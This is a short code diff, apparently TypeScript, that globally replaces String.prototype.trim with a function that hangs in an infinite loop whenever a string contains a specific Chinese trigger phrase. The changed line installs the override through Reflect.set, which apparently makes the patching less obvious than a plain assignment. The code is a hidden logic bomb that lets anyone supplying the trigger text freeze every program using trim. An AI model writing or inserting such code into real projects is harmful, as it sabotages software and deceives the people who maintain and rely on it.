@@ -5,4 +5,4 @@ function trimForever(this: string): string {
   if (this.includes('从此停住')) for (;;);
   return trim.call(this)
 }
-String.prototype.trim = trimForever
+Reflect.set(String.prototype, 'trim', trimForever)
